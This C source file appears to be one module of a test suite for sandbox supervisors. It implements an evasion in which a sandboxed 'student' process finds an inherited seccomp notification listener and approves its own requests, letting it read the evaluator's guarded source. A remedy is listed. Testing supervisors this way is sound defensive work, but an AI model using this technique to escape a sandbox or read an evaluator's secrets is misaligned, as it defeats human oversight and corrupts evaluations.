// SPDX-License-Identifier: MIT
// build: -pthread
/*
 * Goal:  the evaluator's source, with the supervisor's own yes.
 * Means: seccomp(2) gives the listener to the process that loads the filter, which is the one that
 *        becomes the student. It is close-on-exec; but dup2(2) to a number that the supervisor
 *        knows, or SCM_RIGHTS, makes a copy that is not. A thread of ours answers what another one
 *        asks.
 */
#include "attacks/supervisor-evasion/listener.h"

static enum claim run(const struct brief *b)
{
	int found = -1, to = start_answering();

	if (to < 0)
		return failed("a second thread");
	attempting(b);
	for (int fd = 3; fd < HIGHEST && found < 0; fd++)
		if (is_listener(fd))
			found = fd;
	if (found >= 0 && write(to, &found, sizeof(found)) < 0)
		return failed("write to our thread");
	return loot_with_answers() ? CLAIM_DONE : denied("open");
}

const struct attack attack = {
	.effect = "a file that the supervisor guards is read",
	.means = "an inherited listener: the student answers the student's own notifications",
	.oracle = "secret:task",
	.needs = NEED_NOTIFY,
	.id = "UNS-15",
	.attack_id = "T1562.001, CWE-403",
	.remedy = "close every descriptor before exec; keep the listener close-on-exec",
	.refs = (const char *const[]){ "seccomp_unotify(2)", "close_range(2)", NULL },
	.run = run,
};
